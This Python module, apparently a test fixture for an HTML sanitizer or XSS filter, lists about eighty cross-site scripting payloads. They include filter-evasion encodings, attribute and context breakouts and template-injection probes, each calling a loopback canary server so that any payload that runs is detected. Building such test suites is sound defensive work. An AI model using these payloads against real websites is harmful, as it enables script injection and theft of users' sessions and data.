"""Cross-site scripting payloads, written so that any that works is seen: it calls or loads `{canary}`.

`{canary}` is replaced by the address of a loopback server that records
every request (so a script that runs, a style that loads, an image that is
fetched all leave a trace), `{n}` by the payload's number. They cover script
elements, event handlers, javascript: and data: URLs, SVG and MathML, CSS
(@import, url(), expression, bindings), meta refresh and base, markup that
breaks out of attributes, comments, title/textarea/noscript/style contexts,
template syntax, and encodings meant to slip past filters.
"""

from __future__ import annotations

JS = "fetch('{canary}/js/{n}')"

PAYLOADS = [
    # script elements
    "<script>" + JS + "</script>",
    "<SCRIPT SRC={canary}/src/{n}.js></SCRIPT>",
    "<script src=//127.0.0.1:1/x.js></script><script>" + JS + "</script>",
    "<scr<script>ipt>" + JS + "</scr</script>ipt>",
    "</script><script>" + JS + "</script>",
    "<script type=module>import '{canary}/mod/{n}.js'</script>",
    "<script>/*</script><script>*/" + JS + "</script>",
    # event handlers
    "<img src=x onerror=\"" + JS + "\">",
    "<img src={canary}/img/{n}>",
    "<img srcset=\"{canary}/srcset/{n} 1x\">",
    "<body onload=\"" + JS + "\">",
    "<svg onload=\"" + JS + "\">",
    "<details open ontoggle=\"" + JS + "\">",
    "<input autofocus onfocus=\"" + JS + "\">",
    "<video><source onerror=\"" + JS + "\"></video>",
    "<audio src=x onerror=\"" + JS + "\">",
    "<marquee onstart=\"" + JS + "\">x</marquee>",
    "<iframe onload=\"" + JS + "\"></iframe>",
    "<div onmouseover=\"" + JS + "\" style=\"position:fixed;inset:0\">survol</div>",
    "<select autofocus onfocus=\"" + JS + "\"></select>",
    "<object data=\"{canary}/object/{n}\"></object>",
    "<embed src=\"{canary}/embed/{n}\">",
    "<picture><source srcset=\"{canary}/picture/{n}\"><img></picture>",
    "<video poster=\"{canary}/poster/{n}\"></video>",
    "<input type=image src=\"{canary}/input/{n}\">",
    "<table background=\"{canary}/background/{n}\"><td>x</td></table>",
    # javascript: and data: URLs
    "<a href=\"javascript:" + JS + "\">lien</a>",
    "<a href=\"jAvAsCrIpT&colon;" + JS + "\">lien</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;" + JS + "\">lien</a>",
    "<iframe src=\"javascript:" + JS + "\"></iframe>",
    "<iframe src=\"data:text/html,<script>" + JS + "</script>\"></iframe>",
    "<iframe srcdoc=\"<script>" + JS + "</script>\"></iframe>",
    "<form action=\"javascript:" + JS + "\"><button>envoyer</button></form>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"javascript:" + JS + "\">",
    "<math><a xlink:href=\"javascript:" + JS + "\">clic</a></math>",
    "javascript:" + JS,
    "data:text/html,<script>" + JS + "</script>",
    # SVG
    "<svg><script>" + JS + "</script></svg>",
    "<svg><animate onbegin=\"" + JS + "\" attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=\"" + JS + "\"/></svg>",
    "<svg><image href=\"{canary}/svgimage/{n}\"/></svg>",
    "<svg><use href=\"{canary}/use/{n}#x\"/></svg>",
    "<svg><foreignObject><img src=\"{canary}/foreign/{n}\"></foreignObject></svg>",
    "<svg><a xlink:href=\"javascript:" + JS + "\"><text x=20 y=20>clic</text></a></svg>",
    "<svg><style>@import '{canary}/svgstyle/{n}';</style></svg>",
    # CSS
    "<style>@import '{canary}/import/{n}';</style>",
    "<style>body{{background:url({canary}/bg/{n})}}</style>",
    "<link rel=stylesheet href=\"{canary}/link/{n}.css\">",
    "<div style=\"background-image:url({canary}/inline/{n})\">fond</div>",
    "<div style=\"width:expression(" + JS + ")\">ie</div>",
    "<div style=\"-moz-binding:url({canary}/binding/{n}#x)\">moz</div>",
    "<style>@font-face{{font-family:x;src:url({canary}/font/{n})}}body{{font-family:x}}</style>",
    "</style><style>@import '{canary}/closestyle/{n}';</style>",
    # document-level tricks
    "<meta http-equiv=\"refresh\" content=\"0;url={canary}/refresh/{n}\">",
    "<base href=\"{canary}/base/{n}/\">",
    "<link rel=prefetch href=\"{canary}/prefetch/{n}\">",
    "<link rel=preload as=image href=\"{canary}/preload/{n}\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\"><script src=\"{canary}/meta/{n}.js\"></script>",
    # breaking out of attributes and contexts
    "\" onmouseover=\"" + JS + "\" x=\"",
    "' autofocus onfocus='" + JS + "' x='",
    "\"><img src=\"{canary}/attr/{n}\">",
    "'><script>" + JS + "</script>",
    "</title><script>" + JS + "</script>",
    "</textarea><script>" + JS + "</script>",
    "</noscript><img src=\"{canary}/noscript/{n}\">",
    "<!--<img src=\"--><img src={canary}/comment/{n}>",
    "]]><script>" + JS + "</script>",
    "<![CDATA[<script>" + JS + "</script>]]>",
    "<noscript><p title=\"</noscript><img src={canary}/mxss/{n}>\">",
    "<xmp><img src={canary}/xmp/{n}></xmp>",
    "<plaintext><img src={canary}/plaintext/{n}>",
    "<template><img src={canary}/template/{n}></template>",
    # encodings and templates
    "&lt;script&gt;" + JS + "&lt;/script&gt;",
    "%3Cscript%3E" + JS + "%3C%2Fscript%3E",
    "\\u003cscript\\u003e" + JS + "\\u003c/script\\u003e",
    "<img src=\"x\" onerror=\"&#102;&#101;&#116;&#99;&#104;('{canary}/entity/{n}')\">",
    "＜script＞" + JS + "＜/script＞",
    "{{{{ 7*7 }}}} {{% raw %}} ${{7*7}} <%= 7*7 %>",
    "[clic](javascript:" + JS + ") ![img]({canary}/markdown/{n})",
    "<img src=x onerror=" + JS + "\u0000>",
    "<a href=\" javascript:" + JS + "\">espace</a>",
]


def payloads(canary: str) -> list[str]:
    """Every payload, pointing at `canary` (http://127.0.0.1:PORT) and numbered."""
    return [p.format(canary=canary, n=n) for n, p in enumerate(PAYLOADS)]
